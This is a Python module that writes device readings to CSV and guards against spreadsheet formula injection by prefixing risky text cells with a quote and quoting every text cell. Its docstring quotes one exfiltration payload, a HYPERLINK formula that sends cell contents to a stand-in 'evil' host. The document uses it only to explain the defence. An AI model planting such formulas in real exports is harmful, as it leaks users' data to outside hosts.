"""Readings as CSV, safe to open in a spreadsheet (the data API's ``format=csv``, which the console downloads).

A keyword reading is text a device chose, and spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (some skip a leading tab or carriage return first): ``=HYPERLINK("https://evil/?"&A1, "x")``
sent as a door state would run when the owner opens the export. So, by OWASP's rule against CSV injection, such
text gets a leading single quote, which spreadsheets show as text, and every text cell is quoted, so a spreadsheet
that splits rows on another separator (``;`` in many locales) cannot cut a formula out of one either. Numbers of
numeric sensors, and counts of any sensor, are numbers and written as they are: -5 stays a number.
"""

from __future__ import annotations

import csv
import io
from typing import Iterable, Mapping

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HEADER = ("timestamp", "value")


def formula_safe(text: str) -> str:
    """``text`` as a spreadsheet shows it, never runs it: a leading ``'`` when it starts like a formula."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def readings_csv(points: Iterable[Mapping], *, text: bool) -> str:
    """The header and one ``timestamp,value`` row per point; ``text`` when the values are keyword text."""
    out = io.StringIO()
    csv.writer(out).writerow(HEADER)
    rows = csv.writer(out, quoting=csv.QUOTE_ALL if text else csv.QUOTE_MINIMAL)
    rows.writerows((point["timestamp"], formula_safe(str(point["value"])) if text else point["value"])
                   for point in points)
    return out.getvalue()
